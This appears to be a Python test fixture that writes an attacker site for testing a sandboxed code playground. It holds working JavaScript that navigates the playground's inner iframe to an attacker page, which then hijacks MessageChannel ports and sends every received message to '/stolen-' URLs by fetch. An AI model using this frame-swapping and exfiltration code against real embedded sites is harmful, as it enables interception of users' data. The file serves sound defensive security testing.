"""The pages of a site that embeds the playground and navigates the frame inside the playground."""

from pathlib import Path

EMBEDDING = """<!doctype html><title>attacker</title><script>
// Shows `address` in a frame, and navigates the frame inside it to the attacker's document after `delay` milliseconds.
async function attack({ address, delay, tag }) {
    const outer = document.createElement("iframe");
    outer.width = 1200;
    outer.height = 800;
    outer.src = address;
    document.body.replaceChildren(outer);
    const turn = () => new Promise((resolve) => {
        const { port1, port2 } = new MessageChannel();
        port1.onmessage = resolve;
        port2.postMessage(null);
    });
    const end = performance.now() + 30_000;
    while (outer.contentWindow.length === 0) {
        if (performance.now() > end) throw new Error("the playground opened no frame");
        await turn();
    }
    const due = performance.now() + delay;
    while (performance.now() < due) await turn();
    outer.contentWindow[0].location = `${location.origin}/attacker.html?${tag}`;
}
</script><body>"""

INSIDE = """<!doctype html><script>
// Replaces the sandboxed frame: offers its own ports, and reports all messages that it receives.
const report = (path) => fetch(path + location.search, { mode: "no-cors" });
const receive = ({ data, ports }) => {
    report(`/stolen-${ports.length}-ports-${encodeURIComponent(String(data?.kind ?? data)).slice(0, 80)}`);
    for (const port of ports) port.onmessage = receive;
};
addEventListener("message", receive);
const channels = Array.from({ length: 3 }, () => new MessageChannel());
for (const { port1 } of channels) port1.onmessage = receive;
const ports = channels.map(({ port2 }) => port2);
parent.postMessage("", "*", ports);
parent.postMessage({ secret: "" }, "*", [new MessageChannel().port2]);
</script>"""


def write_attacker(folder: Path) -> None:
    """Write the embedding page, and the document that it loads into the sandboxed frame."""
    (folder / "index.html").write_text(EMBEDDING)
    (folder / "attacker.html").write_text(INSIDE)
